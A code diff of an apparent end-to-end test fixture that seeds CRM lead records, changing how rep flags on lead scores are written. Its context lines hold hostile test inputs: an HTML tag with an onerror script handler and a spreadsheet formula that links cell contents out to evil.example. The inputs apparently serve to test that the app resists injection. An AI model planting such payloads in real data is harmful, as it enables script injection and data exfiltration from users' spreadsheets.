@@ -19,7 +19,7 @@ MARKUP = """<img src=x onerror="document.title='taken over'" x"""
 whole tags are not read at all."""
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 """The first name of another lead: a formula to a spreadsheet."""
-FLAGGED = ("Score too high", "Score too low", "Wrong data", "Score too high", "Score too low", "Do not contact")
+FLAGGED = ("too_high", "too_low", "wrong_data", "too_high", "too_low", "do_not_contact")
 
 
 class Settled(NamedTuple):
@@ -54,8 +54,8 @@ def settled(browser: Browser, directory: Path, *, leads: int = LEADS) -> Iterato
             people.set_up(page, one)
             people.connect(page, one)
             flagged = others[: len(FLAGGED)]
-            for crm_id, said in zip(flagged, FLAGGED, strict=True):
-                _write(one, crm_id, leadtier_flag=_choice(one, said), leadtier_flag_note=f"Says the rep: {said}")
+            for crm_id, kind in zip(flagged, FLAGGED, strict=True):
+                flag(one, crm_id, kind, f"Says the rep: {kind}")
             people.first_sync(page)
             yield Settled(one, page.context.storage_state(), marked, formula, flagged)
     assert watch.complaints() == []
@@ -65,7 +65,6 @@ def _write(one: World, crm_id: str, **properties: str) -> None:
     one.hubspot("PATCH", f"/crm/v3/objects/contacts/{crm_id}", {"properties": properties})
 
 
-def _choice(one: World, label: str) -> str:
-    """The value of an option of the flag, by what a rep reads."""
-    options = one.hubspot("GET", "/crm/v3/properties/contacts/leadtier_flag")["options"]
-    return next(str(each["value"]) for each in options if each["label"] == label)
+def flag(one: World, crm_id: str, kind: str, note: str) -> None:
+    """Sets the fields of a record by which a rep says that its score is wrong."""
+    _write(one, crm_id, leadtier_flag=kind, leadtier_flag_note=note)
